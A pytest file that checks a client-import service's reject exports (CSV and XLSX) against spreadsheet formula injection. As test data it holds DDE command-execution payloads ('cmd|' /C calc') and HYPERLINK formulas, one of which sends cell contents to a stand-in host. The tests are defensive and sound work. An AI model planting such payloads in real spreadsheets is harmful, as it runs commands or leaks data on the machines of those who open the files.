"""Attacker test: a client list with spreadsheet formulas must never come back out as formulas
(issue 11, section 1; OWASP "CSV Injection", CWE-1236).

What was done by hand before the fix: a legacy sheet with ``-1+cmd|' /C calc'!A0`` as a name,
``+1+HYPERLINK("http://x")`` in the notes and a ``=HYPERLINK(…)`` column title was imported, and its
rejected rows exported. The CSV carried the DDE payload and the header raw (the old check let a sign
followed by a digit through, and never looked at the header row); ``--rejects-out rejects.xlsx``
wrote that same CSV text under an .xlsx name. Opened in Excel or WPS by the manager, the cells run.
Now every cell, headers included, starts with a single quote when it could be a formula, and the
.xlsx is a real workbook whose cells are all explicit strings.
"""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from desktop_app.domain.roles import Role
from desktop_app.services.client_import import export_rejects, import_clients
from desktop_app.services.signed_in import SignedIn

DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")
HEADER_PAYLOAD = '=HYPERLINK("http://x/?"&A2,"点击")'
CELL_PAYLOADS = (
    "-1+cmd|' /C calc'!A0",
    '+1+HYPERLINK("http://x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://x")',
    "=1+1",  # read as " =1+1": the reader trims it, as some spreadsheets do before deciding
)


def _hostile_sheet(path: Path) -> Path:
    rows = [
        ["姓名", "手机", "备注", HEADER_PAYLOAD],
        ["-1+cmd|' /C calc'!A0", "12345", "x", "a"],  # bad phone: rejected
        ["王五", "1381234", '+1+HYPERLINK("http://x")', "b"],
        ["赵六", "999", "@SUM(1+1)*cmd|' /C calc'!A0", '=HYPERLINK("http://x")'],
        ["钱七", "1", " =1+1", "c"],
        ["李四", "13800000000", "fine", "d"],  # valid: imported
    ]
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    path.write_bytes(buffer.getvalue().encode("utf-8"))
    return path


def _could_run(text: str) -> bool:
    stripped = text.lstrip(" \u3000")
    return text.startswith(DANGEROUS_STARTS) or stripped.startswith(DANGEROUS_STARTS)


@pytest.fixture
def report_and_agent(signed_in: Callable[[Role], SignedIn], tmp_path: Path):  # type: ignore[no-untyped-def]
    agent = signed_in(Role.AGENT)
    report = import_clients(agent, _hostile_sheet(tmp_path / "legacy.csv"))
    assert report.imported == 1 and len(report.rejected) == 4
    return agent, report


def test_rejects_csv_runs_no_formula_in_any_cell_or_the_header(report_and_agent, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    agent, report = report_and_agent
    out = tmp_path / "rejects.csv"
    assert export_rejects(agent, report, out) == 4
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    table = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    cells = [cell for row in table for cell in row]
    assert not [cell for cell in cells if _could_run(cell)]
    assert "'" + HEADER_PAYLOAD in table[0]
    for payload in CELL_PAYLOADS:
        assert "'" + payload in cells  # kept, readable, inert


def test_rejects_xlsx_is_a_real_workbook_without_formulas(report_and_agent, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    from openpyxl import load_workbook

    agent, report = report_and_agent
    out = tmp_path / "rejects.xlsx"
    assert export_rejects(agent, report, out) == 4
    assert zipfile.is_zipfile(out)  # not CSV text under an .xlsx name
    with zipfile.ZipFile(out) as archive:
        xml = b"".join(archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/"))
    assert b"<f>" not in xml and b"<f " not in xml  # no formula element anywhere in the sheet
    sheet = load_workbook(out).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert cells and all(cell.data_type == "s" for cell in cells)
    texts = [str(cell.value) for cell in cells]
    assert not [text for text in texts if _could_run(text)]
    assert "'" + HEADER_PAYLOAD in texts
    for payload in CELL_PAYLOADS:
        assert "'" + payload in texts
